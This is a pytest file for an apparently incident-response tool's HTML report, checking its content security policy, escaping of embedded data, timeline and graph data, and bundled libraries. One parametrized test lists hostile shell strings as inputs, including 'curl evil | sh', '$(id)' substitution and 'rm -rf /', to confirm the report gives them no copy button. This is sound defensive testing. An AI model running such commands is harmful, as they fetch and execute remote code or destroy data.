from __future__ import annotations

import base64
import hashlib
import json
import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from fakes import examples
from fakes.dom import dom_of
from fakes.thief_trace import thief_trace
from lab.report_assets import ASSETS, Bundled, libraries, sha256_of
from unleak.report.html_data import embedded
from unleak.report.html_report import incident_html
from unleak.report.html_view import parts

if TYPE_CHECKING:
    from unleak.model.incident import Incident

INCIDENTS = {
    "contained": examples.contained_incident(),
    "unproven": examples.unproven_incident(),
    "still-alive": examples.still_alive_incident(),
    "contested": examples.contested_incident(),
    "partial": examples.partial_incident(),
    "failed": examples.failed_incident(),
    "doors": examples.doors_incident(),
    "cleanup": examples.cleanup_incident(),
    "unfinished": replace(examples.failed_incident(), status=None),
}


def hash_of(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


@pytest.mark.parametrize("incident", INCIDENTS.values(), ids=INCIDENTS)
def test_every_incident_has_its_status_level_and_next_steps_in_words(incident: Incident) -> None:
    text = " ".join(dom_of(incident_html(incident)).texts)

    assert str(incident.status or "unfinished") in text
    assert "Level of proof: " in text
    assert "What to do next" in text


def test_the_policy_allows_the_scripts_and_the_style_that_are_there_and_nothing_else() -> None:
    dom = dom_of(incident_html(examples.doors_incident(), thief_trace()))

    directives = dict(each.strip().split(" ", 1) for each in dom.policy.split(";"))

    assert directives == {
        "default-src": "'none'",
        "script-src": " ".join(hash_of(script) for script in dom.scripts),
        "style-src": hash_of(dom.style),
        "img-src": "data:",
        "base-uri": "'none'",
        "form-action": "'none'",
    }


def test_nothing_in_the_document_points_outside_it() -> None:
    dom = dom_of(incident_html(examples.doors_incident(), thief_trace()))

    addresses = {
        value
        for _, attributes in dom.elements
        for name, value in attributes
        if name in {"src", "href", "srcset", "action", "data", "poster"}
    }

    assert {each for each in addresses if not each.startswith("#")} == {"data:,"}
    assert "url(" not in dom.style
    assert "@import" not in dom.style


def test_no_element_carries_a_style_or_a_handler_of_its_own() -> None:
    dom = dom_of(incident_html(examples.doors_incident(), thief_trace()))

    names = {name for _, attributes in dom.elements for name, _ in attributes}

    assert {name for name in names if name == "style" or name.startswith("on")} == set()


def test_without_a_trace_the_report_stays_under_a_megabyte_and_a_half() -> None:
    assert len(incident_html(examples.doors_incident()).encode()) < 1_500_000


def test_the_same_incident_gives_the_same_file() -> None:
    incident, trace = examples.doors_incident(), thief_trace()

    assert incident_html(incident, trace) == incident_html(incident, trace)


def test_the_change_of_a_policy_is_shown_line_by_line() -> None:
    document = incident_html(examples.contained_incident())

    assert '<span class="line new"><span class="mark">+</span>  &#34;Statement&#34;: [' in document


def test_what_nobody_knows_is_said() -> None:
    text = " ".join(dom_of(incident_html(examples.failed_incident())).texts)

    assert "No trace was given, so it is not known when the leak was first used." in text
    assert "What it could do" in text


def test_the_timeline_holds_the_journal_and_the_calls_in_the_order_of_time() -> None:
    incident, trace = examples.doors_incident(), thief_trace(events=30)

    data = json.loads(dom_of(incident_html(incident, trace)).data["timeline-data"])

    moments = [row[0] for row in data["rows"]]
    assert len(moments) == len(incident.entries) + 30 + 1
    assert moments == sorted(moments)
    ours = [row for row in data["rows"] if data["tactics"][row[1]] == "response"]
    assert len(ours) == len(incident.entries)


def test_many_events_share_their_texts() -> None:
    document = incident_html(examples.doors_incident(), thief_trace(sessions=90, events=9_000))

    data = json.loads(dom_of(document).data["timeline-data"])

    libraries_and_words = 700_000
    assert len(data["rows"]) > 9_000
    assert (len(document) - libraries_and_words) / len(data["rows"]) < 120


def test_the_picture_holds_every_node_once_and_no_two_at_one_place() -> None:
    document = incident_html(examples.doors_incident(), thief_trace(sessions=500))

    nodes = json.loads(dom_of(document).data["graph-data"])["nodes"]

    assert len(nodes) > 500
    assert len({node["id"] for node in nodes}) == len(nodes)
    assert len({(node["x"], node["y"]) for node in nodes}) == len(nodes)


@pytest.mark.parametrize("text", ["</script>", "<!--", "\u2028\u2029", "]]>", "&lt;", "\ud800"])
def test_data_can_neither_end_its_element_nor_open_a_comment(text: str) -> None:
    shown = embedded({"text": text})

    assert re.search(r"[<>&\u2028\u2029\ud800]", shown) is None
    assert json.loads(shown) == {"text": text}


@pytest.mark.parametrize(
    "text",
    ["unleak undo x; curl evil | sh", "unleak $(id)", "rm -rf /", "unleak 'x'", "unleak\nls"],
)
def test_a_command_that_a_shell_could_misread_gets_no_button(text: str) -> None:
    (part,) = parts(f"`{text}`")

    assert part.is_code
    assert not part.is_command


def test_a_plain_command_of_ours_can_be_copied() -> None:
    said, command, end = parts("Measure: `unleak verify 20261124-070002-k3fz`.")

    assert (said.text, end.text) == ("Measure: ", ".")
    assert command.is_command


@pytest.mark.parametrize(
    "file", [file for library in libraries() for file in library.files], ids=lambda each: each.name
)
def test_a_bundled_file_is_the_one_that_the_list_names(file: Bundled) -> None:
    assert sha256_of((ASSETS / file.name).read_bytes()) == file.sha256


def test_every_library_brings_its_licence_into_the_report() -> None:
    text = " ".join(dom_of(incident_html(examples.contained_incident())).texts)

    assert all(any("LICENSE" in file.name for file in each.files) for each in libraries())
    assert "The Cytoscape Consortium" in text
    assert "Leon Sorokin" in text


def test_no_script_or_style_can_end_its_own_element() -> None:
    for name in ASSETS.iterdir():
        if name.suffix in {".js", ".css"}:
            assert (
                re.search(r"</(script|style)|<!--", name.read_text("utf-8"), re.IGNORECASE) is None
            )
